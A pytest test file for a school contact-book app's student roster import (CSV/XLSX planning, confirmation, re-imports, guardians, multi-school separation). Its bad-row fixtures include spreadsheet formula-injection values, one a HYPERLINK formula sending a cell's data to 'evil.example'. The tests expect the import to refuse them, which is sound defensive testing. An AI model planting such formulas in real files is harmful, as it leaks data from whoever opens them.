"""Roster import through the services: a dry run that plans, a confirm that applies exactly the plan."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import pytest
from sqlalchemy import select

from contactbook.extensions import db
from contactbook.models import EnrolmentStatus, Gender, Guardian, RosterImport, Student
from contactbook.roster import services
from contactbook.roster.imports import ImportPlan, RosterHeaderError, StudentChange
from contactbook.roster.reading import RosterFileError
from contactbook.roster.template import HEADERS, roster_xlsx
from tests.factories import SchoolPeople, World
from tests.roster.import_support import (
    ALREADY_DONE,
    BAD_DATE,
    DUPLICATE_ID,
    EMPTY_COUNTS,
    EMPTY_FILE,
    FORMULA,
    GUARDIAN_WITHOUT_NAME,
    MISSING_COLUMNS,
    NO_ROWS,
    NOT_CSV,
    NOT_UTF8,
    NOT_XLS,
    NOT_XLSX,
    PHONE_NOT_DIGITS,
    REQUIRED,
    UNKNOWN_CLASS,
    WRONG_TYPE,
    YearClasses,
    counts_after_import,
    csv_file,
    enrolment_of,
    generated_rows,
    guardians_of,
    import_count,
    import_roster,
    make_year,
    roster_counts,
    roster_state,
    student,
    student_row,
    xlsx_file,
)
from tests.support import audit_rows

AN = student_row("79000000001", "Nguyễn Văn An", "6A1", father_name="Nguyễn Văn Bình", father_phone="0912345678")
BICH = student_row(
    "79000000002", "Trần Thị Bích", "6A1", gender="Nữ", mother_name="Lê Thị Cúc", mother_phone="0987654321"
)
CUONG = student_row("79000000003", "Phạm Quốc Cường", "6A2", father_name="Phạm Văn Dũng", father_phone="0903111222")
DUNG = student_row("79000000004", "Hoàng Minh Dũng", "7A1", mother_name="Vũ Thị Em", mother_phone="0934555666")


def start(
    people: SchoolPeople, year: YearClasses, content: bytes, filename: str = "danh-sach.csv"
) -> tuple[RosterImport, ImportPlan]:
    return services.start_import(people.school, people.admin, year.year, filename, content)


def ids(changes: list[StudentChange]) -> list[str]:
    return [c.row.national_id for c in changes]


def national_ids(school_id: int) -> set[str]:
    db.session.expire_all()
    return set(db.session.scalars(select(Student.national_id).where(Student.school_id == school_id)))


# --- Happy path -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("delimiter", "bom"), [(",", True), (",", False), (";", True), (";", False)])
def test_a_csv_export_is_planned_then_imported_on_confirm(
    world: World, alpha: YearClasses, delimiter: str, bom: bool
) -> None:
    rows = generated_rows(per_class=6)
    record, plan = start(world.a, alpha, csv_file(rows, delimiter=delimiter, bom=bom))
    assert plan.errors == []
    assert ids(plan.created) == [r["Mã định danh"] for r in rows]
    assert (plan.updated, plan.unchanged, plan.leaving) == ([], [], [])
    assert roster_counts(world.a.school.id) == EMPTY_COUNTS

    services.confirm_import(world.a.school, world.a.admin, record)
    assert roster_counts(world.a.school.id) == counts_after_import(rows)
    assert record.status == "applied"


def test_imported_students_carry_every_cell_of_their_row(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([BICH]))
    bich = student(world.a.school.id, "79000000002")
    assert (bich.full_name, bich.date_of_birth, bich.gender) == ("Trần Thị Bích", date(2013, 9, 5), Gender.FEMALE)
    assert enrolment_of(world.a.school.id, "79000000002") == ("6A1", EnrolmentStatus.ACTIVE)
    assert guardians_of(world.a.school.id, "79000000002") == {("mother", "Lê Thị Cúc", "+84987654321", None)}


def test_an_xlsx_workbook_with_real_date_cells_is_imported(world: World, alpha: YearClasses) -> None:
    header = ["STT", *HEADERS[:5], "Họ tên cha", "Điện thoại cha"]
    content = xlsx_file(
        header,
        [
            [1, "79000000001", "Nguyễn Văn An", datetime(2013, 9, 5), "Nam", "6A1", "Nguyễn Văn Bình", "0912345678"],
            # The id and the phone as numbers: Excel dropped the phone's leading 0.
            [2, 79000000002, "Trần Thị Bích", datetime(2013, 2, 28), "Nữ", "6A2", "Trần Văn Cả", 987654321],
        ],
    )
    record, plan = start(world.a, alpha, content, "danh-sach.xlsx")
    assert (plan.errors, ids(plan.created)) == ([], ["79000000001", "79000000002"])

    services.confirm_import(world.a.school, world.a.admin, record)
    assert student(world.a.school.id, "79000000002").date_of_birth == date(2013, 2, 28)
    assert enrolment_of(world.a.school.id, "79000000002") == ("6A2", EnrolmentStatus.ACTIVE)
    assert guardians_of(world.a.school.id, "79000000002") == {("father", "Trần Văn Cả", "+84987654321", None)}


def test_the_generated_xlsx_export_is_imported(world: World, alpha: YearClasses) -> None:
    rows = generated_rows(per_class=4)
    import_roster(world.a, alpha, roster_xlsx(rows), "danh-sach.xlsx")
    assert roster_counts(world.a.school.id) == counts_after_import(rows)


def test_nothing_is_written_until_the_import_is_confirmed(world: World, alpha: YearClasses) -> None:
    before = roster_state(world.a.school.id)
    record, _plan = start(world.a, alpha, csv_file(generated_rows()))
    assert roster_state(world.a.school.id) == before
    assert (record.status, record.applied_at, import_count(world.a.school.id)) == ("pending", None, 1)


def test_confirm_writes_exactly_the_planned_changes(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH, CUONG]))
    renamed = {**BICH, "Họ và tên": "Trần Thị Bích Ngọc"}
    moved_in = {**DUNG, "Lớp": "6A2"}  # the file covers 6A1 and 6A2, so Cường (6A2) has left
    record, plan = start(world.a, alpha, csv_file([AN, renamed, moved_in]))

    assert (ids(plan.created), ids(plan.updated), ids(plan.unchanged)) == (
        ["79000000004"],
        ["79000000002"],
        ["79000000001"],
    )
    assert plan.updated[0].fields == ["full_name"]
    assert [(s.national_id, s.full_name, s.class_name) for s in plan.leaving] == [
        ("79000000003", "Phạm Quốc Cường", "6A2")
    ]
    assert plan.summary() | {"skipped_lines": []} == {
        "rows": 3,
        "created": 1,
        "updated": 1,
        "unchanged": 1,
        "left": 1,
        "guardians_created": 1,
        "guardians_updated": 0,
        "skipped_lines": [],
        "many_left_in": ["6A2"],  # Cường was 6A2's only student
    }

    services.confirm_import(world.a.school, world.a.admin, record, allow_many_left=True)
    school_id = world.a.school.id
    assert national_ids(school_id) == {"79000000001", "79000000002", "79000000003", "79000000004"}
    assert student(school_id, "79000000002").full_name == "Trần Thị Bích Ngọc"
    assert enrolment_of(school_id, "79000000004") == ("6A2", EnrolmentStatus.ACTIVE)
    assert enrolment_of(school_id, "79000000003") == ("6A2", EnrolmentStatus.LEFT)
    assert roster_counts(school_id) == {"students": 4, "guardians": 4, "enrolments": 4, "links": 4}


def test_a_confirmed_import_is_audited_with_its_counts(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    [row] = audit_rows("roster.imported", world.a.school.id)
    assert (row.actor_id, row.details["created"], row.details["skipped_lines"]) == (world.a.admin.id, 2, [])


# --- Bad rows ---------------------------------------------------------------------------------------

HOA = "79000000009"
BAD_ROWS: dict[str, tuple[dict[str, str], tuple[str, str, str]]] = {
    "missing id": (student_row("", "Lê Thị Hoa"), ("Mã định danh", "", REQUIRED)),
    "bad date": (student_row(HOA, "Lê Thị Hoa", date_of_birth="31/02/2013"), ("Ngày sinh", "31/02/2013", BAD_DATE)),
    "bad phone": (
        student_row(HOA, "Lê Thị Hoa", father_name="Lê Văn Hùng", father_phone="0912abc678"),
        ("Điện thoại cha", "0912abc678", PHONE_NOT_DIGITS),
    ),
    "unknown class": (student_row(HOA, "Lê Thị Hoa", "9A9"), ("Lớp", "9A9", UNKNOWN_CLASS)),
    "formula in the name": (
        student_row(HOA, '=HYPERLINK("http://evil.example","Lê Thị Hoa")'),
        ("Họ và tên", '=HYPERLINK("http://evil.example","Lê Thị Hoa")', FORMULA),
    ),
    "formula in the class": (student_row(HOA, "Lê Thị Hoa", "=6A1"), ("Lớp", "=6A1", FORMULA)),
    "guardian phone without a name": (
        student_row(HOA, "Lê Thị Hoa", mother_phone="0987000111"),
        ("Họ tên mẹ", "", GUARDIAN_WITHOUT_NAME),
    ),
}


def test_a_formula_cell_in_a_workbook_is_refused(world: World, alpha: YearClasses) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Nguyễn Văn An")'
    content = xlsx_file(
        HEADERS[:5],
        [
            [formula, "Nguyễn Văn An", "05/09/2013", "Nam", "6A1"],
            ["79000000002", formula, "05/09/2013", "Nữ", "6A1"],
            ["79000000003", "Phạm Quốc Cường", "05/09/2013", "Nam", '=CONCATENATE("6","A1")'],
        ],
    )
    record, plan = start(world.a, alpha, content, "danh-sach.xlsx")
    assert [(e.line, e.column, e.value, e.reason) for e in plan.errors] == [
        (2, "Mã định danh", formula, FORMULA),
        (3, "Họ và tên", formula, FORMULA),
        (4, "Lớp", '=CONCATENATE("6","A1")', FORMULA),
    ]
    with pytest.raises(services.ImportRefused):
        services.confirm_import(world.a.school, world.a.admin, record)
    assert roster_counts(world.a.school.id) == EMPTY_COUNTS


@pytest.mark.parametrize("kind", list(BAD_ROWS))
def test_a_bad_row_is_listed_with_its_line_column_and_reason(world: World, alpha: YearClasses, kind: str) -> None:
    bad_row, (column, value, reason) = BAD_ROWS[kind]
    _record, plan = start(world.a, alpha, csv_file([AN, BICH, bad_row, CUONG]))
    assert [(e.line, e.column, e.value, e.reason) for e in plan.errors] == [(4, column, value, reason)]
    assert plan.skipped_lines == [4]
    assert ids(plan.created) == ["79000000001", "79000000002", "79000000003"]
    assert roster_counts(world.a.school.id) == EMPTY_COUNTS


@pytest.mark.parametrize("kind", list(BAD_ROWS))
def test_confirming_a_file_with_a_bad_row_imports_only_the_valid_rows(
    world: World, alpha: YearClasses, kind: str
) -> None:
    bad_row, (column, value, reason) = BAD_ROWS[kind]
    record, _plan = start(world.a, alpha, csv_file([AN, BICH, bad_row, CUONG]))
    services.confirm_import(world.a.school, world.a.admin, record)

    assert national_ids(world.a.school.id) == {"79000000001", "79000000002", "79000000003"}
    assert roster_counts(world.a.school.id) == {"students": 3, "guardians": 3, "enrolments": 3, "links": 3}
    assert record.summary["skipped_lines"] == [4]
    assert record.summary["errors"] == [{"line": 4, "column": column, "value": value, "reason": reason, "params": {}}]


def test_a_student_id_twice_in_the_file_skips_both_rows_and_names_both_lines(world: World, alpha: YearClasses) -> None:
    twin = {**CUONG, "Mã định danh": "79000000001"}
    record, plan = start(world.a, alpha, csv_file([AN, BICH, twin]))
    assert [(e.line, e.column, e.value, e.reason, e.params) for e in plan.errors] == [
        (2, "Mã định danh", "79000000001", DUPLICATE_ID, {"lines": "2, 4"}),
        (4, "Mã định danh", "79000000001", DUPLICATE_ID, {"lines": "2, 4"}),
    ]
    assert ids(plan.created) == ["79000000002"]

    services.confirm_import(world.a.school, world.a.admin, record)
    assert national_ids(world.a.school.id) == {"79000000002"}
    assert record.summary["skipped_lines"] == [2, 4]


def test_a_known_student_whose_new_row_is_bad_is_left_as_it_was(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    before = roster_state(world.a.school.id)
    broken = {**AN, "Họ và tên": "Nguyễn Văn An Khang", "Điện thoại cha": "0912abc678"}
    plan = import_roster(world.a, alpha, csv_file([broken, BICH]))
    assert (plan.skipped_lines, plan.leaving, ids(plan.unchanged)) == ([2], [], ["79000000002"])
    assert roster_state(world.a.school.id) == before


def test_every_error_of_a_bad_row_is_listed(world: World, alpha: YearClasses) -> None:
    bad = student_row("", "Lê Thị Hoa", "9A9", date_of_birth="2013-09-05")
    _record, plan = start(world.a, alpha, csv_file([AN, bad]))
    assert [(e.line, e.column, e.reason) for e in plan.errors] == [
        (3, "Lớp", UNKNOWN_CLASS),
        (3, "Mã định danh", REQUIRED),
        (3, "Ngày sinh", BAD_DATE),
    ]


# --- Files refused as a whole -----------------------------------------------------------------------


def a_zip_that_is_not_a_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


WRONG_HEADERS = "STT;Tên;Ngày\r\n1;Nguyễn Văn An;05/09/2013\r\n".encode()
REFUSED_FILES: dict[str, tuple[str, bytes, str]] = {
    "empty": ("danh-sach.csv", b"", EMPTY_FILE),
    "blank lines only": ("danh-sach.csv", b"\r\n\r\n  \r\n", EMPTY_FILE),
    "empty cells only": ("danh-sach.csv", b";;;\r\n;;;\r\n", EMPTY_FILE),
    "header only": ("danh-sach.csv", csv_file([]), NO_ROWS),
    "header only, xlsx": ("danh-sach.xlsx", roster_xlsx([]), NO_ROWS),
    "an image renamed .xlsx": ("danh-sach.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, NOT_XLSX),
    "a zip that is not a workbook": ("danh-sach.xlsx", a_zip_that_is_not_a_workbook(), NOT_XLSX),
    "a workbook renamed .csv": ("danh-sach.csv", roster_xlsx(generated_rows(per_class=1)), NOT_CSV),
    "a CSV in Windows-1258": (
        "danh-sach.csv",
        csv_file([AN], bom=False).decode().encode("cp1258", errors="replace"),
        NOT_UTF8,
    ),
    "a .txt file": ("danh-sach.txt", csv_file([AN]), WRONG_TYPE),
    "a damaged .xls file": ("danh-sach.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), NOT_XLS),
}


@pytest.mark.parametrize("kind", list(REFUSED_FILES))
def test_an_unreadable_file_is_refused_with_its_reason_and_nothing_is_kept(
    world: World, alpha: YearClasses, kind: str
) -> None:
    filename, content, message = REFUSED_FILES[kind]
    with pytest.raises(RosterFileError) as refused:
        start(world.a, alpha, content, filename)
    assert str(refused.value) == message
    assert (roster_counts(world.a.school.id), import_count(world.a.school.id)) == (EMPTY_COUNTS, 0)


def test_a_file_without_the_required_columns_is_refused_with_the_missing_headers(
    world: World, alpha: YearClasses
) -> None:
    with pytest.raises(RosterHeaderError) as refused:
        start(world.a, alpha, WRONG_HEADERS)
    assert (str(refused.value), refused.value.missing) == (
        MISSING_COLUMNS,
        ["Mã định danh", "Họ và tên", "Ngày sinh", "Lớp"],
    )
    assert (roster_counts(world.a.school.id), import_count(world.a.school.id)) == (EMPTY_COUNTS, 0)


# --- Importing again --------------------------------------------------------------------------------


def test_importing_the_same_file_again_changes_nothing(world: World, alpha: YearClasses) -> None:
    content = csv_file(generated_rows(per_class=8))
    import_roster(world.a, alpha, content)
    before = roster_state(world.a.school.id)

    record, plan = start(world.a, alpha, content)
    assert (plan.created, plan.updated, plan.leaving, plan.new_guardians, plan.guardian_updates) == ([], [], [], {}, {})
    assert len(plan.unchanged) == 16
    assert not plan.changes_anything

    services.confirm_import(world.a.school, world.a.admin, record)
    assert roster_state(world.a.school.id) == before


def test_the_same_roster_as_xlsx_after_csv_changes_nothing(world: World, alpha: YearClasses) -> None:
    rows = generated_rows(per_class=5)
    import_roster(world.a, alpha, csv_file(rows, delimiter=";"))
    before = roster_state(world.a.school.id)
    plan = import_roster(world.a, alpha, roster_xlsx(rows), "danh-sach.xlsx")
    assert (len(plan.unchanged), plan.changes_anything) == (10, False)
    assert roster_state(world.a.school.id) == before


def test_parents_sharing_one_phone_are_stable_across_imports(world: World, alpha: YearClasses) -> None:
    # Many families give one phone for both parents: one guardian, whose name must not flip on each import.
    row = student_row(
        "79000000001",
        "Nguyễn Văn An",
        father_name="Nguyễn Văn Bình",
        father_phone="0912345678",
        mother_name="Lê Thị Cúc",
        mother_phone="0912 345 678",
    )
    import_roster(world.a, alpha, csv_file([row]))
    before = roster_state(world.a.school.id)
    plan = import_roster(world.a, alpha, csv_file([row]))
    assert (plan.guardian_updates, plan.changes_anything) == ({}, False)
    assert roster_state(world.a.school.id) == before


def test_siblings_listing_one_phone_under_different_names_are_stable_across_imports(
    world: World, alpha: YearClasses
) -> None:
    older = student_row("79000000001", "Nguyễn Văn An", father_name="Nguyễn Văn Bình", father_phone="0912345678")
    younger = student_row(
        "79000000002", "Nguyễn Thị Bé", "6A2", father_name="Nguyễn V. Bình", father_phone="0912345678"
    )
    content = csv_file([older, younger])
    import_roster(world.a, alpha, content)
    before = roster_state(world.a.school.id)
    plan = import_roster(world.a, alpha, content)
    assert (plan.guardian_updates, plan.changes_anything) == ({}, False)
    assert roster_state(world.a.school.id) == before


# --- A changed file updates in place ----------------------------------------------------------------


def test_a_renamed_student_is_updated_in_place(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    an = student(world.a.school.id, "79000000001")
    an_id, first_updated = an.id, an.updated_at
    plan = import_roster(world.a, alpha, csv_file([{**AN, "Họ và tên": "Nguyễn Văn An Khang"}, BICH]))
    assert [(c.row.national_id, c.fields) for c in plan.updated] == [("79000000001", ["full_name"])]
    renamed = student(world.a.school.id, "79000000001")
    assert (renamed.id, renamed.full_name) == (an_id, "Nguyễn Văn An Khang")
    assert renamed.updated_at > first_updated
    assert roster_counts(world.a.school.id)["students"] == 2


def test_a_corrected_date_of_birth_and_gender_are_updated_in_place(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN]))
    plan = import_roster(world.a, alpha, csv_file([{**AN, "Ngày sinh": "06/09/2013", "Giới tính": "Nữ"}]))
    assert plan.updated[0].fields == ["date_of_birth", "gender"]
    an = student(world.a.school.id, "79000000001")
    assert (an.date_of_birth, an.gender) == (date(2013, 9, 6), Gender.FEMALE)


def test_a_student_moved_to_another_class_keeps_one_enrolment(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    plan = import_roster(world.a, alpha, csv_file([{**AN, "Lớp": "6A2"}, BICH]))
    assert [(c.row.national_id, c.fields) for c in plan.updated] == [("79000000001", ["class"])]
    assert plan.leaving == []
    assert enrolment_of(world.a.school.id, "79000000001") == ("6A2", EnrolmentStatus.ACTIVE)
    assert roster_counts(world.a.school.id)["enrolments"] == 2


def test_a_changed_guardian_phone_updates_that_guardian_in_place(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN]))
    [father_id] = db.session.scalars(select(Guardian.id).where(Guardian.school_id == world.a.school.id))
    plan = import_roster(world.a, alpha, csv_file([{**AN, "Điện thoại cha": "0977 888 999"}]))
    assert [(c.row.national_id, c.fields) for c in plan.updated] == [("79000000001", ["guardians"])]
    assert plan.guardian_updates == {father_id: {"id": father_id, "phone": "+84977888999"}}
    assert guardians_of(world.a.school.id, "79000000001") == {("father", "Nguyễn Văn Bình", "+84977888999", None)}
    assert roster_counts(world.a.school.id) == {"students": 1, "guardians": 1, "enrolments": 1, "links": 1}


def test_a_second_parent_added_to_the_file_is_linked(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN]))
    both = {**AN, "Họ tên mẹ": "Lê Thị Cúc", "Điện thoại mẹ": "0987654321", "Email mẹ": "cuc@example.vn"}
    plan = import_roster(world.a, alpha, csv_file([both]))
    assert plan.updated[0].fields == ["guardians"]
    assert guardians_of(world.a.school.id, "79000000001") == {
        ("father", "Nguyễn Văn Bình", "+84912345678", None),
        ("mother", "Lê Thị Cúc", "+84987654321", "cuc@example.vn"),
    }


def test_a_parent_removed_from_the_file_is_unlinked_but_not_deleted(world: World, alpha: YearClasses) -> None:
    both = {**AN, "Họ tên mẹ": "Lê Thị Cúc", "Điện thoại mẹ": "0987654321"}
    import_roster(world.a, alpha, csv_file([both]))
    plan = import_roster(world.a, alpha, csv_file([AN]))
    assert plan.updated[0].fields == ["guardians"]
    assert guardians_of(world.a.school.id, "79000000001") == {("father", "Nguyễn Văn Bình", "+84912345678", None)}
    assert roster_counts(world.a.school.id) == {"students": 1, "guardians": 2, "enrolments": 1, "links": 1}


def test_a_guardians_corrected_name_is_updated_in_place(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN]))
    guardian_ids = set(db.session.scalars(select(Guardian.id).where(Guardian.school_id == world.a.school.id)))
    record, plan = start(world.a, alpha, csv_file([{**AN, "Họ tên cha": "Nguyễn Văn Bính"}]))
    assert plan.changes_anything
    assert plan.summary()["guardians_updated"] == 1

    services.confirm_import(world.a.school, world.a.admin, record)
    assert guardians_of(world.a.school.id, "79000000001") == {("father", "Nguyễn Văn Bính", "+84912345678", None)}
    assert set(db.session.scalars(select(Guardian.id).where(Guardian.school_id == world.a.school.id))) == guardian_ids


def test_a_phone_added_to_a_guardian_known_by_email_updates_that_guardian(world: World, alpha: YearClasses) -> None:
    by_email = {**AN, "Điện thoại cha": "", "Email cha": "binh@example.vn"}
    import_roster(world.a, alpha, csv_file([by_email]))
    [father_id] = db.session.scalars(select(Guardian.id).where(Guardian.school_id == world.a.school.id))
    plan = import_roster(world.a, alpha, csv_file([{**by_email, "Điện thoại cha": "0912345678"}]))
    assert plan.guardian_updates == {father_id: {"id": father_id, "phone": "+84912345678"}}
    assert guardians_of(world.a.school.id, "79000000001") == {
        ("father", "Nguyễn Văn Bình", "+84912345678", "binh@example.vn")
    }
    assert roster_counts(world.a.school.id)["guardians"] == 1


def test_a_phone_left_out_of_the_file_keeps_the_guardian_and_its_phone(world: World, alpha: YearClasses) -> None:
    both = {**AN, "Email cha": "binh@example.vn"}
    import_roster(world.a, alpha, csv_file([both]))
    before = roster_state(world.a.school.id)
    plan = import_roster(world.a, alpha, csv_file([{**both, "Điện thoại cha": ""}]))
    assert (plan.new_guardians, plan.changes_anything) == ({}, False)
    assert roster_state(world.a.school.id) == before


def test_siblings_whose_rows_disagree_on_a_parents_phone_are_stable_across_imports(
    world: World, alpha: YearClasses
) -> None:
    # One row got the father's new phone, his other child's row still has the old one: both numbers are
    # kept (one guardian each), and importing the same file again must not swap them back and forth.
    younger = student_row(
        "79000000005", "Nguyễn Thị Bé", "6A2", father_name="Nguyễn Văn Bình", father_phone="0912345678"
    )
    import_roster(world.a, alpha, csv_file([AN, younger]))
    changed = csv_file([{**AN, "Điện thoại cha": "0977888999"}, younger])
    import_roster(world.a, alpha, changed)
    assert guardians_of(world.a.school.id, "79000000001") == {("father", "Nguyễn Văn Bình", "+84977888999", None)}
    assert guardians_of(world.a.school.id, "79000000005") == {("father", "Nguyễn Văn Bình", "+84912345678", None)}
    before = roster_state(world.a.school.id)

    plan = import_roster(world.a, alpha, changed)
    assert (plan.guardian_updates, plan.changes_anything) == ({}, False)
    assert roster_state(world.a.school.id) == before


def test_a_guardian_without_phone_or_email_is_recognised_by_name_on_reimport(world: World, alpha: YearClasses) -> None:
    row = {**AN, "Họ tên người giám hộ": "Lê Văn Cường"}
    import_roster(world.a, alpha, csv_file([row]))
    before = roster_state(world.a.school.id)
    plan = import_roster(world.a, alpha, csv_file([row]))
    assert (ids(plan.unchanged), plan.changes_anything) == (["79000000001"], False)
    assert roster_state(world.a.school.id) == before


# --- Students who leave and come back ---------------------------------------------------------------


def test_a_student_missing_from_the_new_file_is_marked_as_left_not_deleted(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    plan = import_roster(world.a, alpha, csv_file([AN]), allow_many_left=True)
    assert [(s.national_id, s.class_name) for s in plan.leaving] == [("79000000002", "6A1")]
    assert enrolment_of(world.a.school.id, "79000000002") == ("6A1", EnrolmentStatus.LEFT)
    assert student(world.a.school.id, "79000000002").full_name == "Trần Thị Bích"
    assert roster_counts(world.a.school.id) == {"students": 2, "guardians": 2, "enrolments": 2, "links": 2}


def test_only_the_classes_in_the_file_lose_their_missing_students(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file(generated_rows(per_class=4)))  # 6A1 and 6A2
    in_6a1 = [r for r in generated_rows(per_class=4) if r["Lớp"] == "6A1"]
    plan = import_roster(world.a, alpha, csv_file(in_6a1[1:]), allow_many_left=True)
    assert [(s.national_id, s.class_name) for s in plan.leaving] == [(in_6a1[0]["Mã định danh"], "6A1")]
    assert enrolment_of(world.a.school.id, in_6a1[0]["Mã định danh"]) == ("6A1", EnrolmentStatus.LEFT)
    in_6a2 = [r["Mã định danh"] for r in generated_rows(per_class=4) if r["Lớp"] == "6A2"]
    assert {enrolment_of(world.a.school.id, nid) for nid in in_6a2} == {("6A2", EnrolmentStatus.ACTIVE)}


def test_a_student_who_comes_back_is_active_again(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    import_roster(world.a, alpha, csv_file([AN]), allow_many_left=True)
    plan = import_roster(world.a, alpha, csv_file([AN, BICH]))
    assert [(c.row.national_id, c.fields) for c in plan.updated] == [("79000000002", ["class"])]
    assert enrolment_of(world.a.school.id, "79000000002") == ("6A1", EnrolmentStatus.ACTIVE)
    assert roster_counts(world.a.school.id) == {"students": 2, "guardians": 2, "enrolments": 2, "links": 2}


def test_a_student_whose_row_has_an_error_is_not_marked_as_left(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    plan = import_roster(world.a, alpha, csv_file([AN, {**BICH, "Ngày sinh": "31/02/2013"}]))
    assert (plan.skipped_lines, plan.leaving) == ([3], [])
    assert enrolment_of(world.a.school.id, "79000000002") == ("6A1", EnrolmentStatus.ACTIVE)


# --- Guardians shared by siblings -------------------------------------------------------------------


def test_siblings_with_the_same_parent_phone_share_one_guardian(world: World, alpha: YearClasses) -> None:
    younger = student_row(
        "79000000005", "Nguyễn Thị Bé", "6A2", gender="Nữ", father_name="Nguyễn Văn Bình", father_phone="0912.345.678"
    )
    plan = import_roster(world.a, alpha, csv_file([AN, younger]))
    assert list(plan.new_guardians) == ["+84912345678"]
    [guardian] = db.session.scalars(select(Guardian).where(Guardian.school_id == world.a.school.id))
    assert {link.student.national_id for link in guardian.student_links} == {"79000000001", "79000000005"}
    assert roster_counts(world.a.school.id) == {"students": 2, "guardians": 1, "enrolments": 2, "links": 2}


def test_a_new_sibling_is_linked_to_the_guardian_already_known(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN]))
    younger = student_row(
        "79000000005", "Nguyễn Thị Bé", "6A2", father_name="Nguyễn Văn Bình", father_phone="0912345678"
    )
    plan = import_roster(world.a, alpha, csv_file([AN, younger]))
    assert (ids(plan.created), plan.new_guardians) == (["79000000005"], {})
    assert roster_counts(world.a.school.id) == {"students": 2, "guardians": 1, "enrolments": 2, "links": 2}


# --- Schools are separate ---------------------------------------------------------------------------


def test_the_same_ids_and_phones_in_another_school_make_that_schools_own_rows(world: World, alpha: YearClasses) -> None:
    content = csv_file([AN, BICH])
    import_roster(world.a, alpha, content)
    alpha_before = roster_state(world.a.school.id)

    beta = make_year(world.b)
    plan = import_roster(world.b, beta, csv_file([{**AN, "Họ và tên": "Nguyễn Văn Ân"}, BICH]))
    assert (ids(plan.created), plan.updated, plan.unchanged, plan.leaving) == (
        ["79000000001", "79000000002"],
        [],
        [],
        [],
    )
    assert sorted(plan.new_guardians) == ["+84912345678", "+84987654321"]
    assert roster_state(world.a.school.id) == alpha_before
    assert roster_counts(world.b.school.id) == {"students": 2, "guardians": 2, "enrolments": 2, "links": 2}
    assert student(world.b.school.id, "79000000001").full_name == "Nguyễn Văn Ân"
    assert student(world.a.school.id, "79000000001").full_name == "Nguyễn Văn An"
    beta_guardians = set(db.session.scalars(select(Guardian.id).where(Guardian.school_id == world.b.school.id)))
    assert not beta_guardians & {row[0] for row in alpha_before["guardians"]}


def test_a_file_in_another_school_never_marks_this_schools_students_as_left(world: World, alpha: YearClasses) -> None:
    import_roster(world.a, alpha, csv_file([AN, BICH]))
    alpha_before = roster_state(world.a.school.id)
    import_roster(world.b, make_year(world.b), csv_file([AN]))
    assert roster_state(world.a.school.id) == alpha_before


# --- Confirming and cancelling ----------------------------------------------------------------------


def test_an_import_cannot_be_confirmed_twice(world: World, alpha: YearClasses) -> None:
    record, _plan = start(world.a, alpha, csv_file([AN]))
    services.confirm_import(world.a.school, world.a.admin, record)
    after_first = roster_state(world.a.school.id)
    with pytest.raises(services.RosterError, match=ALREADY_DONE):
        services.confirm_import(world.a.school, world.a.admin, record)
    assert roster_state(world.a.school.id) == after_first


def test_a_cancelled_import_applies_nothing_and_cannot_be_confirmed(world: World, alpha: YearClasses) -> None:
    record, _plan = start(world.a, alpha, csv_file([AN, BICH]))
    services.cancel_import(world.a.school, world.a.admin, record)
    assert (record.status, record.content) == ("cancelled", b"")
    with pytest.raises(services.RosterError, match=ALREADY_DONE):
        services.confirm_import(world.a.school, world.a.admin, record)
    assert roster_counts(world.a.school.id) == EMPTY_COUNTS
